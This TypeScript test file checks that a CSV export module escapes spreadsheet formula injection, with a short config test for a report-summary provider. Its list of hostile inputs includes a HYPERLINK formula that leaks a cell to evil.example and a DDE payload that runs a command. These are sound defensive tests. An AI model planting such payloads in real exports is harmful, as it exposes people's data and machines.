import { buffer } from 'node:stream/consumers';
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { loadConfig } from '../../src/server/config.ts';
import { csvStream, formulaSafe } from '../../src/server/modules/exports/exports.csv.ts';

/** Strings a spreadsheet would run as a formula (or a DDE command), each with the cell we must write. */
const NASTY: [string, string][] = [
  ['=1+1', "'=1+1"],
  ['+1', "'+1"],
  ['-1', "'-1"],
  ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
  ['\t=1+1', "'\t=1+1"],
  ['\r=1+1', "'\r=1+1"],
  ['\n-2+3', "'\n-2+3"],
  [
    '=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
    `'=HYPERLINK("https://evil.example/?leak="&A1,"Click")`,
  ],
  ["=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"],
  ['   =1+1', "'   =1+1"],
  ['\u00a0\u00a0@x', "'\u00a0\u00a0@x"],
  ['\u3000+x', "'\u3000+x"],
  ['\ufeff=x', "'\ufeff=x"],
  ['＝1+1', "'＝1+1"],
  ['＋1', "'＋1"],
  ['－1', "'－1"],
  ['＠x', "'＠x"],
];

/** Harmless text stays exactly as written. */
const HARMLESS = [
  '',
  'plain text',
  'a=b',
  'x-1',
  'e-mail me @ booth',
  ' leading space',
  "'quoted already",
  '1+1',
];

describe('formula injection (OWASP CSV injection)', () => {
  it.each(NASTY)('prefixes %j with a single quote', (input, expected) => {
    expect(formulaSafe(input)).toBe(expected);
  });

  it.each(HARMLESS)('leaves %j alone', (input) => {
    expect(formulaSafe(input)).toBe(input);
  });

  it('writes no cell a spreadsheet would evaluate, and keeps every character otherwise', async () => {
    const out = csvStream(['id', 'text', 'change']);
    const records = NASTY.map(([input], i) => ({ id: `row-${i}`, text: input, change: -0.25 }));
    for (const r of records) out.write(r);
    out.write({ id: 'empty', text: null, change: null });
    out.end();
    const csv = (await buffer(out)).toString('utf8');

    // UTF-8 BOM for Excel, a header row, CRLF record ends (RFC 4180).
    expect(csv.startsWith('\ufeff"id","text","change"\r\n')).toBe(true);
    const rows = parse(csv, { bom: true, columns: true }) as Record<string, string>[];
    expect(rows).toHaveLength(records.length + 1);
    rows.slice(0, -1).forEach((row, i) => {
      const [input, expected] = NASTY[i] as [string, string];
      expect(row.text).toBe(expected);
      expect(row.text?.slice(1)).toBe(input);
      // Numbers are data: a negative number is not escaped.
      expect(row.change).toBe('-0.25');
    });
    expect(rows.at(-1)).toEqual({ id: 'empty', text: '', change: '' });
  });

  it('quotes text cells and doubles inner quotes, so commas and line breaks stay inside their cell', async () => {
    const out = csvStream(['a', 'b']);
    out.write({ a: 'say "hi", then\r\nleave', b: 'ok' });
    out.end();
    const csv = (await buffer(out)).toString('utf8');
    expect(csv).toContain('"say ""hi"", then\r\nleave","ok"');
    expect(parse(csv, { bom: true, columns: true })).toEqual([{ a: 'say "hi", then\r\nleave', b: 'ok' }]);
  });
});

describe('summary provider settings', () => {
  it('is off by default, and named with its fix when half-configured or not https in production', () => {
    expect(loadConfig({}).reportSummary).toBeNull();
    expect(
      loadConfig({ REPORT_SUMMARY_URL: 'http://127.0.0.1:9/v1/', REPORT_SUMMARY_API_KEY: 'k' }).reportSummary,
    ).toEqual({ url: 'http://127.0.0.1:9/v1', apiKey: 'k', model: 'gpt-4o-mini', timeoutMs: 30_000 });
    expect(() => loadConfig({ REPORT_SUMMARY_API_KEY: 'k' })).toThrow(
      /REPORT_SUMMARY_API_KEY: set, but REPORT_SUMMARY_URL is not/,
    );
    expect(() =>
      loadConfig({
        NODE_ENV: 'production',
        PUBLIC_URL: 'https://insights.example.com',
        OIDC_ISSUER: 'https://example.okta.com/oauth2/default',
        OIDC_CLIENT_ID: 'client',
        OIDC_CLIENT_SECRET: 'secret',
        SESSION_SECRET: 's'.repeat(48),
        DATABASE_URL: 'postgres://app@db.internal:5432/insights',
        REPORT_SUMMARY_URL: 'http://llm.internal/v1',
      }),
    ).toThrow(/REPORT_SUMMARY_URL: must use https/);
    expect(() => loadConfig({ REPORT_SUMMARY_TIMEOUT_MS: '50' })).toThrow(/REPORT_SUMMARY_TIMEOUT_MS/);
  });
});
